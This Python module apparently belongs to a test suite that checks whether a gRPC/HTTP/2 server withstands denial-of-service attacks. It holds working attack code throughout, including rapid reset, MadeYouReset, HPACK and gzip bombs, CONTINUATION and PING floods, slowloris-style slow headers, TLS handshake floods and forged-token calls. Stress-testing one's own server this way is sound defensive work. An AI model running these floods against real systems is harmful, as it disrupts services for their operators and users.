"""The attacks: each keeps a server busy, or its memory, as one hostile host can."""

import base64
import dataclasses
import gzip
import itertools
import select
import ssl
import time
from collections.abc import Callable

from wire import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM,
                  SETTINGS, WINDOW_UPDATE, Connection, call, frame, head, literal, message, settings)

USERS = "/user.v1.UserService/"
GET, LIST, CREATE = USERS + "GetUser", USERS + "ListUsers", USERS + "CreateUser"
BATCH_GET, IMPORT, WATCH = USERS + "BatchGetUsers", USERS + "ImportUsers", USERS + "WatchUsers"
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"

# How long each blob of a flood is, about.
BLOB_BYTES = 32_768
# As many streams as a connection may have, but for one.
STREAMS = range(1, 199, 2)


@dataclasses.dataclass
class Report:
    """What an attack saw of its server."""
    sent: int = 0
    connections: int = 0
    cuts: list[float] = dataclasses.field(default_factory=list)
    # Connections that the server has not cut in the end.
    left: int = 0
    # The last of the answers to calls that were held.
    answered_after: float | None = None
    unanswered: int = 0
    how: str = "not cut"


@dataclasses.dataclass
class Attack:
    name: str
    run: Callable  # target, until, once: Report
    # What must come of it: "cut", "answered" (every call), or "bounded" (memory and honest calls only).
    ends: str = "cut"
    seconds: float = 5
    # Descriptors that the server may have.
    descriptors: int | None = None
    # What ends it, where that is not HTTP/2's own business.
    policed: bool = False
    # What the server asks its peers for.
    asks: str | None = None
    # What the peer is told in the end, where that is known.
    told: str = ""


def connect(address, **options):
    try:
        return Connection(address, **options)
    except OSError:
        return None


def flood(blobs, first=b"", admin=False, pace=None, **options):
    """Sends blobs over one connection, and over another one when that is cut."""
    def run(target, until, once):
        report = Report()
        while time.monotonic() < until:
            connection = connect(target.admin if admin else target.grpc, **options)
            if not connection:
                time.sleep(0.01)
                continue
            report.connections += 1
            connection.push(first)
            for blob, count in blobs():
                if not connection.push(blob, until) or time.monotonic() > until:
                    break
                report.sent += count
                if pace:
                    time.sleep(pace)
            while not connection.is_closed() and time.monotonic() < min(until, connection.began + 12):
                time.sleep(0.005)
            report.left = int(not connection.is_cut)
            if connection.is_cut:
                report.cuts.append(connection.cut_after)
                # A connection that is reset may have lost its GOAWAY.
                if not report.how.startswith("GOAWAY"):
                    report.how = connection.verdict()
            connection.close()
            if once and report.cuts:
                break
        return report
    return run


def again(single, count=None):
    """The same frame, again and again."""
    per_blob = count or BLOB_BYTES // len(single)
    return lambda: itertools.repeat((single * per_blob, per_blob))


def on_streams(make, per_blob=50):
    """Frames on one stream after the other."""
    def blobs():
        for first in range(1, 2**31 - 2 * per_blob, 2 * per_blob):
            yield b"".join(make(stream) for stream in range(first, first + 2 * per_blob, 2)), per_blob
    return blobs


def hold(count, setup=b"", tick=None, every=0.1, admin=False, **options):
    """Opens connections, does `setup` on each and then a `tick` once in a while, and sees what the server does about it."""
    def run(target, until, once):
        report = Report()
        held = []
        for _ in range(count):
            connection = connect(target.admin if admin else target.grpc, **options)
            if connection:
                connection.push(setup, time.monotonic() + 1)
                held.append(connection)
            if time.monotonic() > until:
                break
        report.connections = len(held)
        began = time.monotonic()
        asked = set(STREAMS) if setup and not tick else set()
        ticks = [iter(tick()) if tick else None for _ in held]
        while time.monotonic() < until and not all(connection.is_cut for connection in held):
            for connection, ticker in zip(held, ticks):
                if not connection.is_closed() and ticker and (part := next(ticker, None)) is not None:
                    connection.push(part, time.monotonic() + 0.01)
                    report.sent += 1
            report.unanswered = sum(len(asked - connection.answered()) for connection in held) if asked else 0
            if asked and not report.unanswered and report.answered_after is None:
                report.answered_after = time.monotonic() - began
                if once:
                    break
            time.sleep(every)
        report.cuts = [connection.cut_after for connection in held if connection.is_cut]
        report.left = len(held) - len(report.cuts)
        verdicts = {connection.verdict() for connection in held}
        report.how = "; ".join(sorted(verdicts)) if len(verdicts) < 4 else f"{len(verdicts)} kinds of ends"
        for connection in held:
            connection.close()
        return report
    return run


def handshakes(target, until, once):
    """Begins one handshake of TLS after the other, and waits for the server's part, which costs a signature."""
    outgoing = ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    client = context.wrap_bio(ssl.MemoryBIO(), outgoing)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    report = Report()
    while time.monotonic() < until:
        if connection := connect(target.grpc, begin=hello):
            report.connections += 1
            select.select([connection.socket], [], [], 0.02)
            connection.close()
    return report


def bad_tokens():
    """Calls with a token each, of a known key and with a signature of nobody's."""
    encoded = [base64.urlsafe_b64encode(part).rstrip(b"=").decode() for part in (b'{"alg":"RS256","kid":"test"}', bytes(range(256)))]
    for stream in itertools.count(1, 2):
        claims = base64.urlsafe_b64encode(b'{"sub":"%12d"}' % stream).rstrip(b"=").decode()
        yield call(stream, GET, message(b"\x0a\x01u"), authorization=f"Bearer {encoded[0]}.{claims}.{encoded[1]}"), 1


def byte_by_byte(data):
    """Each byte by itself, for ever the last one."""
    return lambda: itertools.chain((data[at : at + 1] for at in range(len(data))), itertools.repeat(b""))


def begun(path, stream=1, **fields):
    """A call whose request goes on."""
    return frame(HEADERS, END_HEADERS, stream, head(path, **fields))


def on_all_streams(make):
    return b"".join(make(stream) for stream in STREAMS)


WHOLE = END_HEADERS | END_STREAM
ONE = (1).to_bytes(4, "big")
CANCEL = (8).to_bytes(4, "big")
LARGEST = (2**31 - 1).to_bytes(4, "big")
GET_HEAD, LIST_HEAD = head(GET), head(LIST)
# One field of 4,000 bytes that is indexed, and then named again by one byte each.
HPACK_BOMB = GET_HEAD + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4_000 + b"\xbe" * 12_000
# A thousand fields of 64 bytes.
LARGE_LIST = GET_HEAD + b"".join(literal(f"x-{number:06}", "z" * 40) for number in range(1_000))
UNPACKED = gzip.compress(b"\0" * 60_000_000, 9)[:65_000]
# 30,000 empty ids.
MANY_IDS = b"\x0a\x00" * 30_000
# page_size: 1,000
PAGE = message(b"\x08\xe8\x07")


def resets(stream):
    return frame(HEADERS, WHOLE, stream, LIST_HEAD) + frame(RST_STREAM, 0, stream, CANCEL)


def made_resets(stream):
    return frame(HEADERS, END_HEADERS, stream, GET_HEAD) + frame(WINDOW_UPDATE, 0, stream, LARGEST)


def large_list(stream):
    parts = [LARGE_LIST[at : at + 16_000] for at in range(0, len(LARGE_LIST), 16_000)]
    middle = b"".join(frame(CONTINUATION, 0, stream, part) for part in parts[1:-1])
    return frame(HEADERS, END_STREAM, stream, parts[0]) + middle + frame(CONTINUATION, END_HEADERS, stream, parts[-1])


def crawling_windows():
    return itertools.repeat(on_all_streams(lambda stream: frame(WINDOW_UPDATE, 0, stream, ONE)))


ATTACKS = [
    Attack("PING", flood(again(frame(PING, payload=bytes(8)))), policed=True),
    # The server reads no further once its answers are not taken.
    Attack("PING, unread", flood(again(frame(PING, payload=bytes(8))), reads=False), "bounded"),
    Attack("PING ACK", flood(again(frame(PING, ACK, payload=bytes(8)))), policed=True),
    Attack("SETTINGS", flood(again(frame(SETTINGS))), policed=True),
    Attack("PRIORITY", flood(again(frame(PRIORITY, 0, 1, bytes(4) + b"\x09"))), policed=True),
    Attack("WINDOW_UPDATE of the connection", flood(again(frame(WINDOW_UPDATE, 0, 0, ONE))), policed=True),
    Attack("WINDOW_UPDATE of a stream", flood(again(frame(WINDOW_UPDATE, 0, 1, ONE)), first=begun(IMPORT)), policed=True),
    Attack("empty DATA", flood(again(frame(DATA, 0, 1)), first=begun(IMPORT)), policed=True),
    Attack("DATA of one byte", flood(again(frame(DATA, 0, 1, b"\0")), first=begun(IMPORT))),
    Attack("DATA of padding", flood(again(frame(DATA, 8, 1, b"\xff" + bytes(255))), first=begun(IMPORT))),
    Attack("frames of an unknown type", flood(again(frame(0xFA))), policed=True),
    Attack("empty HEADERS", flood(on_streams(lambda stream: frame(HEADERS, WHOLE, stream)))),
    Attack("CONTINUATION without an end", flood(again(frame(CONTINUATION, 0, 1, b"")),
                                                first=frame(HEADERS, END_STREAM, 1, GET_HEAD))),
    Attack("HPACK bomb", flood(on_streams(lambda stream: frame(HEADERS, WHOLE, stream, HPACK_BOMB), 2)), "bounded"),
    Attack("header list of 64 KiB", flood(on_streams(large_list, 2)), "bounded"),
    Attack("rapid reset", flood(on_streams(resets)), seconds=10),
    Attack("rapid reset, 10 a millisecond", flood(on_streams(resets, 10), pace=0.001), seconds=10),
    Attack("own-error resets (MadeYouReset)", flood(on_streams(made_resets))),
    Attack("streams opened and left", flood(on_streams(lambda stream: begun(IMPORT, stream)))),
    Attack("gzip of 60 MB", flood(on_streams(lambda stream: call(stream, CREATE, message(UNPACKED, 1), grpc_encoding="gzip"), 1)),
           "bounded"),
    Attack("30,000 empty ids", flood(on_streams(lambda stream: call(stream, BATCH_GET, message(MANY_IDS)), 1)), "bounded"),
    Attack("admin port: PING", flood(again(frame(PING, payload=bytes(8))), admin=True), policed=True),
    Attack("admin port: rapid reset", flood(on_streams(resets), admin=True), seconds=10),
    Attack("handshakes of TLS", handshakes, "bounded", asks="tls"),
    Attack("calls with bad tokens", flood(bad_tokens), "bounded", asks="token"),
    Attack("50 handshakes of TLS that say nothing", hold(50, begin=b""), seconds=13, asks="tls"),
    Attack("50 silent connections", hold(50, begin=b""), seconds=13),
    Attack("50 half prefaces", hold(50, begin=PREFACE[:12]), seconds=13),
    Attack("50 slow prefaces", hold(50, begin=b"", tick=byte_by_byte(PREFACE), every=0.5), seconds=13),
    Attack("50 slow header blocks", hold(50, setup=frame(HEADERS, WHOLE, 1, GET_HEAD)[:12],
                                         tick=byte_by_byte(frame(HEADERS, WHOLE, 1, GET_HEAD)[12:]), every=0.5), seconds=13),
    Attack("header blocks without an end", hold(50, setup=frame(HEADERS, END_STREAM, 1, GET_HEAD), tick=byte_by_byte(b"")), seconds=13),
    Attack("2,475 bodies that never come", hold(25, setup=on_all_streams(
        lambda stream: begun(GET, stream, grpc_timeout="60S") + frame(DATA, 0, stream, message(b"\0")[:5]))), "answered", 14),
    Attack("1,980 lists that are not read", hold(20, begin=PREFACE + settings(initial_window_size=0), setup=on_all_streams(
        lambda stream: call(stream, LIST, PAGE, grpc_timeout="60S")), tick=byte_by_byte(b""), reads=False), "bounded", 15),
    Attack("1,980 windows that crawl", hold(20, begin=PREFACE + settings(initial_window_size=0), setup=on_all_streams(
        lambda stream: call(stream, LIST, PAGE, grpc_timeout="60S")), tick=crawling_windows), "bounded", 15),
    Attack("9,900 watches", hold(100, setup=on_all_streams(lambda stream: call(stream, WATCH)), tick=byte_by_byte(b"")), "bounded", 8),
    Attack("9,900 health watches", hold(100, setup=on_all_streams(lambda stream: call(stream, HEALTH_WATCH)), tick=byte_by_byte(b"")),
           "bounded", 8),
    Attack("9,900 reflection streams", hold(100, setup=on_all_streams(lambda stream: begun(REFLECTION, stream)), tick=byte_by_byte(b"")),
           "bounded", 8),
    Attack("admin port: 200 silent connections", hold(200, begin=b"", admin=True), "bounded", 13),
    Attack("admin port: 2,000 health watches", hold(125, setup=b"".join(call(stream, HEALTH_WATCH) for stream in range(1, 33, 2)),
                                                    tick=byte_by_byte(b""), admin=True), "bounded", 8),
    Attack("10,000 silent connections", hold(10_000, begin=b""), "bounded", 20),
    Attack("10,000 idle connections", hold(10_000), "bounded", 20),
    Attack("descriptors exhausted (256)", hold(400, begin=b""), "bounded", 14, descriptors=256),
]

# What the short form tries, next to everything that is policed.
SHORT = {"rapid reset", "own-error resets (MadeYouReset)", "streams opened and left", "CONTINUATION without an end",
         "50 silent connections", "50 half prefaces", "50 slow header blocks", "header blocks without an end",
         "2,475 bodies that never come", "HTTP/1.1: 50 slow heads", "HTTP/1.1: 50 half heads",
         "HTTP/1.1: head without an end", "HTTP/1.1: tiny chunks", "HTTP/1.1: smuggling",
         "admin port: HTTP/1.1: head without an end", "admin port: HTTP/1.1: smuggling"}
